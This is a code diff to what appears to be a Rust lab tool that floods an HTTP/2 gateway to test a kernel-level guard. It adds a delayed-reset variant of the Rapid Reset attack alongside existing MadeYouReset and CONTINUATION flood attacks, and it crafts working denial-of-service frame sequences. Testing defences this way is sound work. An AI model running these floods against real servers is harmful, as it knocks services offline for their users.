@@ -23,6 +23,10 @@ const SOURCES: u8 = 16;
 const HELD: usize = 1000;
 /// Between two bytes of a connection that holds on.
 const DRIP: Duration = Duration::from_secs(1);
+/// Frames, or pairs of them, of one write.
+const AT_ONCE: u32 = 50;
+/// Enough for a request to be passed on.
+const LATE: Duration = Duration::from_millis(2);
 /// A SYN that was dropped is tried again by then: from another address.
 const CONNECT: Duration = Duration::from_millis(200);
 
@@ -33,6 +37,8 @@ pub enum Attack {
     None,
     /// HEADERS and RST_STREAM (CVE-2023-44487).
     RapidReset,
+    /// The same, but each reset so late that its request has been passed on.
+    LateReset,
     /// A WINDOW_UPDATE of 0 has the server reset each stream (CVE-2025-8671).
     MadeYouReset,
     /// A header block without end (CVE-2024-27316).
@@ -60,7 +66,10 @@ impl Attack {
     fn frames(self, turn: u32) -> Vec<u8> {
         let stream = turn * 2 + 1;
         match self {
-            Self::RapidReset => [request(stream), frame(3, 0, stream, &8_u32.to_be_bytes())].concat(),
+            Self::RapidReset => [request(stream), reset(stream)].concat(),
+            // As many streams are open as are sent at once.
+            Self::LateReset if turn >= AT_ONCE => [reset(stream - 2 * AT_ONCE), request(stream)].concat(),
+            Self::LateReset => request(stream),
             Self::MadeYouReset => [request(stream), frame(8, 0, stream, &[0; 4])].concat(),
             Self::Continuation if turn == 0 => frame(1, 0, 1, &block()),
             Self::Continuation => frame(9, 0, 1, &[0, 1, b'x', 1, b'y']),
@@ -102,6 +111,10 @@ fn request(stream: u32) -> Vec<u8> {
     frame(1, 5, stream, &block())
 }
 
+fn reset(stream: u32) -> Vec<u8> {
+    frame(3, 0, stream, &8_u32.to_be_bytes())
+}
+
 /// Attacks for `seconds`; run in the clients' namespace.
 pub fn attack(attack: Attack, seconds: u64) -> Made {
     let end = Instant::now() + Duration::from_secs(seconds);
@@ -137,10 +150,13 @@ fn flood(attack: Attack, end: Instant) -> Made {
         let mut sent = stream.write_all(&first);
         let mut next = 0;
         while sent.is_ok() && Instant::now() < end {
-            let many: Vec<u8> = (next..next + 100).flat_map(|turn| attack.frames(turn)).collect();
-            next += 100;
+            let many: Vec<u8> = (next..next + AT_ONCE).flat_map(|turn| attack.frames(turn)).collect();
+            next += AT_ONCE;
             sent = stream.write_all(&many);
             made.bytes += many.len() as u64;
+            if attack == Attack::LateReset {
+                std::thread::sleep(LATE);
+            }
             let _ = stream.set_nonblocking(true);
             if matches!(stream.read(&mut sink), Ok(0)) {
                 break;
@@ -216,10 +232,9 @@ pub struct Seen {
     pub cores: f64,
 }
 
-/// Runs every attack with the kernel part on and off, and gives the table.
-pub fn run(lab: &Lab, seconds: u64, rounds: usize) -> Result<String> {
+/// Runs `attacks` with the kernel part on and off, and gives the table.
+pub fn run(lab: &Lab, attacks: &[Attack], seconds: u64, rounds: usize) -> Result<String> {
     let mut rows = String::new();
-    let attacks = Attack::value_variants();
     let guards = [Guard::Kernel, Guard::None];
     let mut all: Vec<Vec<Vec<Seen>>> =
         guards.iter().map(|_| attacks.iter().map(|_| Vec::new()).collect()).collect();
@@ -230,12 +245,13 @@ pub fn run(lab: &Lab, seconds: u64, rounds: usize) -> Result<String> {
                 let gateway = lab.gateway(*guard)?;
                 let seen = lab.abuse(&gateway, *attack, seconds)?;
                 println!(
-                    "round {round}, {}, {}: {}; {:.2} cores, {} connections",
+                    "round {round}, {}, {}: {}; {:.2} cores, {} connections; {}",
                     guard.as_str(),
                     attack.name(),
                     seen.honest.summary(),
                     seen.cores,
-                    seen.made.connections
+                    seen.made.connections,
+                    lab.refusals()?,
                 );
                 of_attack.push(seen);
             }
